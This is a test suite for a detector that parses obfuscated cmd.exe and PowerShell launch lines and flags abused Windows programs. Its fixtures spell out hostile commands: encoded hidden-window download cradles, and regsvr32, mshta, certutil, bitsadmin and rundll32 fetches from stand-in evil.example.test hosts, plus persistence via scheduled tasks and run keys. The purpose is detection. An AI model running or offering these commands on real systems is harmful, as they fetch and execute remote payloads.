// The command-line analyzer: cmd.exe parsing (carets, quotes, chains, variables, cmd /c nesting), the
// PowerShell launcher in every spelling, and the Windows programs droppers borrow, each with the IOCs and
// findings it implies.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { DEFAULT_ENV, cmdInner, expandVariables, splitArgs, splitChain } from '../src/analyzers/cmdline/cmd.ts';
import { cmdlineAnalyzer } from '../src/analyzers/cmdline/index.ts';
import { decodeEncodedCommand, parsePowerShellLaunch, resolveParameter } from '../src/analyzers/cmdline/launcher.ts';
import { powershellAnalyzer } from '../src/analyzers/powershell/index.ts';
import { defaultConfig } from '../src/config.ts';
import { identify } from '../src/engine/identify.ts';
import { analyzeSubmission, type AnalysisRun } from '../src/engine/submission.ts';
import { buildReport } from '../src/verdict/report.ts';
import { encodeCommand } from './generators/powershell.ts';

const SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://stage.example.test/a.ps1')";

async function analyze(text: string, name = 'command.txt'): Promise<AnalysisRun> {
  return analyzeSubmission({ name, data: new TextEncoder().encode(text) }, { config: defaultConfig(), analyzers: [cmdlineAnalyzer, powershellAnalyzer] });
}

const ids = (run: AnalysisRun) => new Set(run.findings.map((f) => f.id));
const iocs = (run: AnalysisRun, type: string) => run.iocs.filter((i) => i.type === type).map((i) => i.value);
const decodedLayers = (run: AnalysisRun) => run.artifacts.filter((a) => a.relation === 'decoded' && a.kind === 'powershell');

test('cmd.exe: carets and quotes, then the & && || | chain', () => {
  const { parts, carets } = splitChain('p^ow^er^shell -c "a & b" & c^md /c x && y || z | w');
  assert.equal(carets, 4);
  assert.deepEqual(
    parts.map((p) => [p.joinedBy, p.text]),
    [['', 'powershell -c "a & b"'], ['&', 'cmd /c x'], ['&&', 'y'], ['||', 'z'], ['|', 'w']],
  );
  assert.deepEqual(splitChain('echo a^&b').parts.map((p) => p.text), ['echo a&b'], 'an escaped & does not split');
});

test('cmd.exe: %VAR%, substrings, replacements, and cmd /c quote stripping', () => {
  const env = { ...DEFAULT_ENV, x: 'Invoke' };
  // C:\Windows\system32\cmd.exe — characters 20..22 are "cmd"; -7 from the end is also index 20.
  assert.equal(expandVariables('%COMSPEC:~20,3%', env), 'cmd');
  assert.equal(expandVariables('%comspec:~-7,3%', env), 'cmd');
  assert.equal(expandVariables('%X:voke=%-Expression %unknown%', env), 'In-Expression %unknown%');
  assert.equal(expandVariables('!x!', env), 'Invoke');
  assert.equal(cmdInner('/v:on /c "set a=1 & echo %a%"'), 'set a=1 & echo %a%');
  assert.deepEqual(splitArgs('rundll32 "C:\\Program Files\\a b.dll",Run "x""y" a\\"b'), ['rundll32', 'C:\\Program Files\\a b.dll,Run', 'x"y', 'a"b']);
});

test('powershell.exe switches: every accepted prefix of -EncodedCommand, / and dashes alike', () => {
  for (const flag of ['-e', '-en', '-enc', '-enco', '-EncodedCommand', '-ec', '/enc', '-EnC', '\u2013enc']) {
    assert.equal(resolveParameter(flag)?.name, 'EncodedCommand', flag);
  }
  assert.equal(resolveParameter('-ex')?.name, 'ExecutionPolicy');
  assert.equal(resolveParameter('-ep')?.name, 'ExecutionPolicy');
  assert.equal(resolveParameter('-nop')?.name, 'NoProfile');
  assert.equal(resolveParameter('-noni')?.name, 'NonInteractive');
  assert.equal(resolveParameter('-w')?.name, 'WindowStyle');
  assert.equal(resolveParameter('-c')?.name, 'Command');
  const launch = parsePowerShellLaunch(`-NoP -sta -NonI -W Hidden -Exec Bypass -Enc ${encodeCommand(SCRIPT)}`);
  assert.equal(launch.via, 'encoded');
  assert.equal(launch.script, SCRIPT);
  assert.equal(launch.windowStyle, 'Hidden');
  assert.equal(launch.executionPolicy, 'Bypass');
  assert.equal(parsePowerShellLaunch(`-nop -c "${SCRIPT}"`).script, SCRIPT);
  assert.equal(parsePowerShellLaunch(`-`, SCRIPT).via, 'stdin');
  assert.equal(parsePowerShellLaunch('-File C:\\ProgramData\\x.ps1').file, 'C:\\ProgramData\\x.ps1');
});

test('an odd number of decoded bytes is reported, the way .NET reads it (U+FFFD)', () => {
  const base64 = Buffer.concat([Buffer.from('iex', 'utf16le'), Buffer.from([0x41])]).toString('base64');
  const decoded = decodeEncodedCommand(base64);
  assert.equal(decoded.text, 'iex\uFFFD');
  assert.match(decoded.problem ?? '', /odd number of bytes/);
});

test('launchers: obfuscated cmd chains down to the decoded script', async () => {
  const b64 = encodeCommand(SCRIPT);
  const lines = [
    `cmd.exe /c p^ow^ers^hell -w hid^den -e^nc ${b64}`,
    `%COMSPEC% /c "powershell /enc ${b64}"`,
    `cmd /v:on /c "set a=power&& set b=shell&& call %a%%b% -EncodedCommand ${b64}"`,
    `cmd /c echo ${SCRIPT} | powershell -noprofile -`,
    `C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -c "${SCRIPT}"`,
    `powershell.exe powershell -window hidden -enc ${b64}`,
  ];
  for (const line of lines) {
    const run = await analyze(line);
    assert.equal(run.artifacts[0]!.kind, 'cmdline', line);
    const layers = decodedLayers(run);
    assert.equal(layers.length, 1, line);
    assert.equal(layers[0]!.size, Buffer.byteLength(SCRIPT), `the decoded script, exactly: ${line}`);
    assert.ok(iocs(run, 'url').includes('http://stage.example.test/a.ps1'), line);
    assert.ok(ids(run).has('powershell.exec.download-cradle'), line);
  }
  const carets = await analyze(lines[0]!);
  assert.ok(ids(carets).has('cmdline.obfuscation.carets'), 'carets');
  assert.ok(ids(carets).has('cmdline.launcher.powershell-hidden'), 'hidden window');
  const vars = await analyze(`cmd /c %COMSPEC:~-7,1%%COMSPEC:~-6,1%%COMSPEC:~-5,1% /c powershell -enc ${b64}`);
  assert.ok(ids(vars).has('cmdline.obfuscation.variables'), 'substring variables');
  assert.equal(decodedLayers(vars).length, 1, '"cmd" spelled from %COMSPEC% substrings still runs the launcher');
  assert.ok(ids(await analyze(lines[3]!)).has('cmdline.launcher.powershell-stdin'), 'stdin');
});

const LOLBINS: { line: string; finding: string; url?: string; file?: string; attack: string }[] = [
  { line: 'rundll32.exe C:\\ProgramData\\x.dll,DllRegisterServer', finding: 'cmdline.run.rundll32', file: 'C:\\ProgramData\\x.dll', attack: 'T1218.011' },
  { line: 'regsvr32 /s /n /u /i:http://evil.example.test/f.sct scrobj.dll', finding: 'cmdline.run.regsvr32-scriptlet', url: 'http://evil.example.test/f.sct', attack: 'T1218.010' },
  { line: 'regsvr32.exe /s %TEMP%\\y.ocx', finding: 'cmdline.run.regsvr32', file: 'C:\\Users\\user\\AppData\\Local\\Temp\\y.ocx', attack: 'T1218.010' },
  { line: 'mshta http://evil.example.test/p.hta', finding: 'cmdline.run.mshta', url: 'http://evil.example.test/p.hta', attack: 'T1218.005' },
  { line: 'certutil.exe -urlcache -split -f http://evil.example.test/a.txt %TEMP%\\a.exe', finding: 'cmdline.download.certutil', url: 'http://evil.example.test/a.txt', file: 'C:\\Users\\user\\AppData\\Local\\Temp\\a.exe', attack: 'T1105' },
  { line: 'bitsadmin /transfer j /download /priority high http://evil.example.test/b.dll C:\\ProgramData\\b.dll', finding: 'cmdline.download.bitsadmin', url: 'http://evil.example.test/b.dll', file: 'C:\\ProgramData\\b.dll', attack: 'T1197' },
  { line: 'curl.exe -o %PUBLIC%\\c.dll http://evil.example.test/c.dll', finding: 'cmdline.download.curl', url: 'http://evil.example.test/c.dll', file: 'C:\\Users\\Public\\c.dll', attack: 'T1105' },
  { line: 'msiexec /q /i http://evil.example.test/p.msi', finding: 'cmdline.run.msiexec-remote', url: 'http://evil.example.test/p.msi', attack: 'T1218.007' },
  { line: 'wmic process call create "rundll32 C:\\Users\\Public\\w.dll,Start"', finding: 'cmdline.run.wmic-process', file: 'C:\\Users\\Public\\w.dll', attack: 'T1047' },
  { line: 'schtasks /create /sc minute /mo 5 /tn upd /tr "regsvr32 /s C:\\ProgramData\\t.dll"', finding: 'cmdline.persistence.scheduled-task', file: 'C:\\ProgramData\\t.dll', attack: 'T1053.005' },
  { line: 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d "C:\\ProgramData\\r.exe" /f', finding: 'cmdline.persistence.run-key', file: 'C:\\ProgramData\\r.exe', attack: 'T1547.001' },
];

test('the programs droppers borrow: each with its finding, URL and file', async () => {
  for (const c of LOLBINS) {
    // Named .cmd: the identify table knows the common launchers by content, not every program (reg, …).
    const run = await analyze(c.line, 'step.cmd');
    const hit = run.findings.find((f) => f.id === c.finding);
    assert.ok(hit, `${c.finding} for ${c.line}`);
    assert.ok(hit.attack.includes(c.attack), `${c.attack} for ${c.line}`);
    if (c.url) {
      assert.ok(run.iocs.some((i) => i.type === 'url' && i.value === c.url && i.role === 'payload-url'), `payload URL of ${c.line}`);
      assert.ok(run.artifacts.some((a) => a.relation === 'link' && a.name === c.url), `link child of ${c.line}`);
    }
    if (c.file) assert.ok(iocs(run, 'filename').includes(c.file), `file ${c.file} of ${c.line}: ${JSON.stringify(iocs(run, 'filename'))}`);
  }
});

test('nested commands (wmic, schtasks) carry their own run step', async () => {
  const run = await analyze(LOLBINS.find((c) => c.finding === 'cmdline.run.wmic-process')!.line, 'step.cmd');
  assert.ok(ids(run).has('cmdline.run.rundll32'), 'the rundll32 inside wmic');
  assert.equal(run.labels.a1, 'wmic process create, rundll32 ,Start');
});

test('a bare text file or a .bat holding commands is identified and read as a command line', async () => {
  assert.equal(identify(new TextEncoder().encode(`powershell -nop -w hidden -enc ${encodeCommand(SCRIPT)}`), 'note.txt'), 'cmdline');
  const bat = ['@echo off', 'rem update helper', ':: really', 'set u=http://evil.example.test/d.dll', 'set o=%PROGRAMDATA%\\d.dll', 'certutil -urlcache -f %u% %o%', 'rundll32 %o%,Main'].join('\r\n');
  const run = await analyze(bat, 'update.bat');
  assert.equal(run.artifacts[0]!.kind, 'cmdline');
  assert.ok(iocs(run, 'url').includes('http://evil.example.test/d.dll'), 'URL from a set variable');
  assert.ok(iocs(run, 'filename').includes('C:\\ProgramData\\d.dll'), 'the saved DLL');
  assert.ok(ids(run).has('cmdline.run.rundll32'), 'run step');
  assert.equal(buildReport(run).verdict, 'malicious');
});

test('ordinary commands stay benign', async () => {
  for (const line of ['cmd /c dir C:\\Users & echo done', 'ipconfig /all', 'cmd /c echo a^&b ^> %DATE:~-4%.txt', 'powershell -NoProfile -Command "Get-Service | Where-Object Status -eq Running"', 'regsvr32 /s "C:\\Program Files\\Vendor\\viewer.ocx"']) {
    const run = await analyze(line);
    assert.equal(buildReport(run).verdict, 'benign', `${line}: ${JSON.stringify(run.findings.map((f) => [f.id, f.score]))}`);
  }
});

test('inline script given to mshta or rundll32: its commands and URLs are followed', async () => {
  const mshta = await analyze('mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -nop -c iwr http://evil.example.test/z.ps1"", 0:close")', 'lnk-target.cmd');
  assert.ok(ids(mshta).has('cmdline.run.mshta-inline'), 'inline mshta');
  assert.equal(decodedLayers(mshta).length, 1, 'the PowerShell it runs is a decoded layer');
  assert.ok(mshta.iocs.some((i) => i.type === 'url' && i.value === 'http://evil.example.test/z.ps1' && i.role === 'payload-url'), 'payload URL');
  const rundll = await analyze('rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:https://evil.example.test/r.sct")', 'lnk-target.cmd');
  assert.ok(ids(rundll).has('cmdline.run.rundll32-script'), 'rundll32 running script');
  assert.ok(rundll.iocs.some((i) => i.type === 'url' && i.value === 'https://evil.example.test/r.sct' && i.role === 'payload-url'), 'scriptlet URL');
  assert.equal(buildReport(rundll).verdict, 'malicious');
});
